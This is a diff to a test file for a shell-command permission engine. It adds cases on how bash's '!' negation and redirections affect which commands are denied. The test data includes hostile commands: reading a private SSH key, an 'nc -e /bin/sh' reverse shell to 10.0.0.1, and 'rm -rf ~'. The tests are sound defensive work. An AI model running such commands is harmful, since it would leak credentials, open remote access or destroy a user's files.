@@ -25,6 +25,10 @@ _ENGINE = Engine()
     ("cat 2>/dev/null ~/.ssh/id_rsa", Outcome.DENY),
     ("nc >/dev/null -e /bin/sh 10.0.0.1 4444", Outcome.DENY),
     ("{ ls; } >out.txt more", Outcome.DENY),  # a syntax error to bash: never ALLOW
+    # a negated command: bash's ! applies to the pipeline, the words are its command's
+    ("! rm 2>/dev/null -rf ~", Outcome.DENY),
+    ("true && ! rm 2>/dev/null -rf ~", Outcome.DENY),
+    ("! (ls) >x y", Outcome.DENY),  # a syntax error to bash: never ALLOW
 ])
 def test_words_after_a_redirection_are_judged(command: str, expected: Outcome) -> None:
     assert _ENGINE.check(command, cwd=WORKSPACE).outcome is expected
@@ -36,6 +40,7 @@ def test_words_after_a_redirection_are_judged(command: str, expected: Outcome) -
     "make >build.log 2>&1 test",
     "ls 2>/dev/null -la src",
     "grep -q foo 2>/dev/null notes.txt && echo yes",
+    "! grep &>/dev/null \"Log message construction failed\" errlog",
 ])
 def test_everyday_lines_with_such_words_stay_allowed(command: str) -> None:
     assert _ENGINE.check(command, cwd=WORKSPACE).outcome is Outcome.ALLOW
